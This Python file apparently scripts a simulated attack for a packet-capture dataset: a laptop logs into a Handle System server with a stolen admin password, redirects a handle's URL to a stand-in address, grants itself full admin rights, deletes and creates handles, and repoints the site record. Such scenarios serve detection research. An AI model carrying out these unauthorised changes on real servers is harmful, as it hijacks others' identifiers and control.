"""With a stolen key, a laptop registers handles, sends another's customers elsewhere and makes itself administrator."""

from __future__ import annotations

from pcaps.scenarios.rig import handle_message as hdl
from pcaps.scenarios.rig.handle_message import Message, Value
from pcaps.scenarios.rig.node import ADMIN, KEY_INDEX, PREFIX
from pcaps.scenarios.rig.registrar import connect, make_scenario, new_bag
from pcaps.scenarios.rig.stage import Stage

_BAG = f"{PREFIX}/BAG000042"


async def attack(stage: Stage) -> None:
    """Log in with a password in clear, then change a URL, grant all rights to anybody, delete and create."""
    await stage.until(30)
    async with connect(stage) as connection:
        stage.mark()
        await connection.ask(Message(hdl.LOGIN, hdl.ask(f"{PREFIX}/admin", (), ("pw123456",)), 7))
        await stage.wait(4)
        stage.mark()
        url = Value(1, "URL", b"http://203.0.113.80/bag/42")
        await connection.change(hdl.MODIFY_VALUE, hdl.tell(_BAG, [url]))
        await stage.wait(6)
        stage.mark()
        everything = hdl.admin("0.NA/88.907.3315", KEY_INDEX, 0x0FFF)
        await connection.change(hdl.ADD_VALUE, hdl.tell(_BAG, [Value(101, "HS_ADMIN", everything, permission=0x0F)]))
        await stage.wait(6)
        stage.mark()
        for number in range(60, 72):
            await connection.change(hdl.DELETE, hdl.text(f"{PREFIX}/BAG{number:06d}"))
        for number in range(7000, 7012):
            await connection.change(hdl.CREATE, new_bag(number))
        await stage.wait(4)
        stage.mark()
        await connection.change(hdl.MODIFY_VALUE, hdl.tell(ADMIN, [Value(1, "HS_SITE", hdl.site("203.0.113.80", 2))]))


SCENARIO = make_scenario("handle_unauthorised_change.pcap.gz", 54, 110, {"laptop": attack}, strangers=("laptop",))
